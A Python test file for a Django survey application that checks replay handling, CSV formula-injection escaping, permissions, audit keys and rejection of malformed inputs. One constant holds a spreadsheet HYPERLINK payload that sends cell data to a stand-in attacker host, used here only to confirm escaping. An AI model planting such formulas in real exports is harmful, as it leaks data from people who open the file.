"""Issue 13: replays, spreadsheet-safe CSV, permissions, audit keys, bad input that once gave a 500."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile

from afstand.services import signup_spool, studies, submissions
from afstand.web.models import AuditEvent, Counter, Membership, Response, Study
from tests.conftest import run_cli
from tests.helpers import MINI_FORM

pytestmark = pytest.mark.django_db
PASSWORD = "Een-lang-wachtwoord-42"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


@pytest.fixture
def demo(db):
    return studies.load_demo()


def post(client, body, instrument="clienten"):
    raw = body if isinstance(body, (bytes, str)) else json.dumps(body)
    return client.post(f"/api/v1/surveys/{instrument}/responses", data=raw, content_type="application/json")


def researcher(client, study, role="owner", staff=False):
    user = User.objects.create_user(f"r-{role}-{staff}", password=PASSWORD, is_staff=staff)
    if study is not None:
        Membership.objects.create(user=user, study=study, role=role)
    client.force_login(user)
    return user


# item 6: replays reveal nothing --------------------------------------------------------------


def test_a_replay_gets_the_code_only_with_identical_answers(client, demo):
    instance = str(uuid.uuid4())
    answers = {"consent": "ja", "c_age": 40, "c_gender": "man"}
    first = post(client, {"instance_id": instance, "answers": answers})
    assert first.status_code == 201
    same = post(client, {"instance_id": instance, "answers": {"consent": "ja", "c_age": "40", "c_gender": "man"}})
    assert same.status_code == 200 and same.json()["withdrawal_code"] == first.json()["withdrawal_code"]
    for other in (
        {"consent": "ja"},
        {"consent": "ja", "c_age": 41, "c_gender": "man"},
        {"consent": "nee"},
        {"consent": "ja", "c_age": "oud"},
    ):
        guess = post(client, {"instance_id": instance, "answers": other})
        assert guess.status_code == 409 and "withdrawal_code" not in guess.json(), other
    assert Response.objects.count() == 1


def test_only_version_4_uuids_are_accepted(client, demo):
    answers = {"consent": "ja"}
    for bad in (
        str(uuid.uuid1()),
        str(uuid.uuid3(uuid.NAMESPACE_DNS, "x")),
        "00000000-0000-0000-0000-000000000000",
        "{" + str(uuid.uuid4()) + "}",
        str(uuid.uuid4()).replace("-", ""),
        12345,
        None,
    ):
        result = post(client, {"instance_id": bad, "answers": answers})
        assert result.status_code == 400 and result.json()["errors"]["instance_id"]["code"] == "not_a_uuid", bad
    assert post(client, {"instance_id": str(uuid.uuid4()).upper(), "answers": answers}).status_code == 201


def test_a_declined_instance_is_counted_once(client, demo):
    instance = str(uuid.uuid4())
    statuses = [post(client, {"instance_id": instance, "answers": {"consent": "nee"}}).status_code for _ in range(3)]
    assert statuses == [201, 200, 200]
    assert Counter.objects.get(instrument="clienten", kind="declined").value == 1
    post(client, {"instance_id": str(uuid.uuid4()), "answers": {"consent": "nee"}})
    assert Counter.objects.get(instrument="clienten", kind="declined").value == 2


# item 4: spreadsheet-safe CSV ----------------------------------------------------------------


def test_web_csv_is_spreadsheet_safe_and_the_data_file_is_canonical_and_analyze_reads_both(client, demo, tmp_path):
    version = studies.active_version(demo.slug, "clienten")
    tricky = [FORMULA, "+31 6 1234", "-geen-", "@home", "=1+1", "'al een apostrof"]
    for i, text in enumerate(tricky):
        submissions.submit(version, uuid.uuid4(), {"consent": "ja", "c_age": 30 + i, "c_gender": "man", "c_open_tips": text})
    researcher(client, demo)
    safe = client.get(f"/onderzoek/{demo.slug}/export/clienten.csv")
    data = client.get(f"/onderzoek/{demo.slug}/export/clienten.data.csv")
    assert safe.status_code == data.status_code == 200
    assert safe.content.startswith(b"\xef\xbb\xbf") and not data.content.startswith(b"\xef\xbb\xbf")
    safe_rows = list(csv.DictReader(io.StringIO(safe.content.decode("utf-8-sig"))))
    data_rows = list(csv.DictReader(io.StringIO(data.content.decode("utf-8"))))
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [r for r in safe_rows for v in r.values() if v[:1] in starts and not v.lstrip("+-").replace(".", "").isdigit()]
    assert {r["c_open_tips"] for r in safe_rows} == {"'" + t for t in tricky}
    assert {r["c_open_tips"] for r in data_rows} == set(tricky)  # the data file: exactly what was answered
    assert {r["c_age"] for r in safe_rows} == {str(30 + i) for i in range(len(tricky))}  # numbers stay numbers
    # the CLI's export stays canonical, and `afstand analyze` reads both layouts to the same result
    (tmp_path / "safe.csv").write_bytes(safe.content)
    (tmp_path / "data.csv").write_bytes(data.content)
    results = []
    for name in ("safe.csv", "data.csv"):
        run = run_cli("analyze", "--instrument", "clienten", "--data", str(tmp_path / name), "--json")
        assert run.returncode == 0, run.stderr
        result = json.loads(run.stdout)
        result["data"].pop("source", None)
        results.append(result)
    assert results[0] == results[1]
    from afstand.responses.readers import read_csv

    read_safe, read_data = read_csv(safe.content, name="safe.csv"), read_csv(data.content, name="data.csv")
    assert sorted(filter(None, read_safe.columns["c_open_tips"].to_pylist())) == sorted(tricky)
    assert read_safe.columns["c_open_tips"].to_pylist() == read_data.columns["c_open_tips"].to_pylist()


def test_signups_csv_is_spreadsheet_safe(client, demo, settings):
    client.post(f"/aanmelden/{demo.slug}", {"purpose": "loterij", "name": FORMULA, "email": "a@example.org"})
    signup_spool.flush(force=True)  # stored (the owner sees stored sign-ups only)
    researcher(client, demo)
    download = client.get(f"/onderzoek/{demo.slug}/aanmeldingen.csv")
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    assert [r["name"] for r in rows] == ["'" + FORMULA]


# item 8: permissions and audit ---------------------------------------------------------------


def test_only_staff_create_studies(client, demo):
    form = {"title": "Nieuw", "slug": "nieuw", "instrument": "mini", "xlsform": SimpleUploadedFile("mini.md", MINI_FORM.encode())}
    researcher(client, demo, role="coder")
    assert client.get("/onderzoek/nieuw/").status_code == 403
    assert client.post("/onderzoek/nieuw/", form).status_code == 403 and not Study.objects.filter(slug="nieuw").exists()
    assert "/onderzoek/nieuw/" not in client.get("/onderzoek/").content.decode()
    researcher(client, None, staff=True)
    form["xlsform"].seek(0)
    assert client.post("/onderzoek/nieuw/", form).status_code == 302


def test_createuser_staff(tmp_path):
    import os

    db = f"sqlite:///{tmp_path / 'afstand.sqlite3'}"
    os.environ["AFSTAND_PASSWORD"] = PASSWORD
    try:
        plain = run_cli("createuser", "--username", "anna", "--role", "owner", "--db", db)
        staff = run_cli("createuser", "--username", "bram", "--role", "owner", "--staff", "--db", db)
    finally:
        del os.environ["AFSTAND_PASSWORD"]
    assert plain.returncode == 0 and "may create studies" not in plain.stdout, plain.stderr
    assert staff.returncode == 0 and "may create studies" in staff.stdout, staff.stderr
    import sqlite3

    with sqlite3.connect(tmp_path / "afstand.sqlite3") as connection:
        assert dict(connection.execute("SELECT username, is_staff FROM auth_user")) == {"anna": 0, "bram": 1}


def test_audit_events_have_random_keys_and_respondent_events_no_time(client, demo):
    """Withdrawals leave no audit row: not even a timeless one, whose physical place (PostgreSQL
    ``ctid``, SQLite ``rowid``, dump order) between timed researcher rows would date it. The
    ``withdrawn`` counter keeps the number."""
    from django.db import connection

    researcher(client, demo)
    version = studies.active_version(demo.slug, "clienten")
    codes = [submissions.submit(version, uuid.uuid4(), {"consent": "ja"}).body["withdrawal_code"] for _ in range(6)]
    for code in codes:
        client.get(f"/onderzoek/{demo.slug}/")
        client.get(f"/onderzoek/{demo.slug}/export/clienten.csv")
        assert client.post("/intrekken", {"code": code}).status_code == 303
    events = list(AuditEvent.objects.values_list("id", "action", "at"))
    assert len(events) >= 6 and all(at is not None for _, _, at in events)  # researcher events only, each with its time
    assert not [e for e in events if e[1] == "withdrawal" or e[2] is None]
    physical = "ctid" if connection.vendor == "postgresql" else "rowid"
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT action, at FROM afstand_auditevent ORDER BY {physical}")
        in_place = cursor.fetchall()
    assert len(in_place) == len(events) and all(at is not None and action != "withdrawal" for action, at in in_place)
    assert Counter.objects.get(study=demo, instrument="clienten", kind="withdrawn").value == 6
    ids = [e[0] for e in sorted(events, key=lambda e: e[2])]
    assert ids != sorted(ids) and min(ids) > 2**32  # random 62-bit keys, not a sequence


# item 7: bad input that gave a 500 -----------------------------------------------------------


def test_probe_inputs_get_a_4xx(client, demo):
    huge = "9" * 5000
    assert post(client, f'{{"instance_id": "{uuid.uuid4()}", "answers": {{"c_age": {huge}}}}}').status_code == 400
    assert post(client, f'{{"instance_id": {huge}, "answers": {{}}}}').status_code == 400
    researcher(client, demo, staff=True)
    assert client.get(f"/onderzoek/{demo.slug}/export/bestaat-niet.csv").status_code == 404
    assert client.get(f"/onderzoek/{demo.slug}/export/clienten.exe").status_code == 404
    long_name = "x" * 196 + ".md"
    upload = client.post(
        "/onderzoek/nieuw/",
        {"title": "Lang", "slug": "lang", "instrument": "mini", "xlsform": SimpleUploadedFile(long_name, MINI_FORM.encode())},
    )
    assert upload.status_code in (302, 400)
    bad_forms = {
        "regex": "regex(., '[a-z]+')",
        "pow": "pow(., 999999)",
        "nested": "(" * 500 + ". > 1" + ")" * 500,
        "huge": ". > " + "9" * 5000,
        "division": ". div 0 > 1",
    }
    for name, constraint in bad_forms.items():
        form = _with_constraint(constraint)
        response = client.post(
            "/onderzoek/nieuw/",
            {"title": name, "slug": f"f-{name}", "instrument": "mini", "xlsform": SimpleUploadedFile("mini.md", form.encode())},
        )
        assert response.status_code in (302, 400), (name, response.status_code)
        if response.status_code == 302:  # the form loaded: answering it must not fail either
            answer = client.post(
                f"/api/v1/studies/f-{name}/surveys/mini/responses",
                json.dumps({"instance_id": str(uuid.uuid4()), "answers": {"consent": "ja", "age": "12"}}),
                content_type="application/json",
            )
            assert 200 <= answer.status_code < 500, (name, answer.status_code)


def _with_constraint(constraint: str) -> str:
    """MINI_FORM with another constraint on its integer item."""
    assert ". >= 16 and . <= 99" in MINI_FORM
    return MINI_FORM.replace(". >= 16 and . <= 99", constraint)


def test_a_short_secret_key_is_refused_with_https():
    import os
    import subprocess
    import sys

    def settings_in_subprocess(env: dict, code: str) -> subprocess.CompletedProcess:
        clean = {k: v for k, v in os.environ.items() if not k.startswith("AFSTAND_") and k != "DJANGO_SETTINGS_MODULE"}
        return subprocess.run([sys.executable, "-c", code], env={**clean, **env}, capture_output=True, text=True, timeout=120)

    code = "from afstand.web.config import settings as s; print(len(s.SECRET_KEY))"
    short = settings_in_subprocess({"AFSTAND_SECRET_KEY": "k" * 49, "AFSTAND_HTTPS": "1"}, code)
    assert short.returncode != 0 and "at least 50 characters" in short.stderr
    assert settings_in_subprocess({"AFSTAND_SECRET_KEY": "k" * 50, "AFSTAND_HTTPS": "1"}, code).stdout.strip() == "50"
    assert settings_in_subprocess({"AFSTAND_SECRET_KEY": "k" * 20}, code).stdout.strip() == "20"  # development without HTTPS
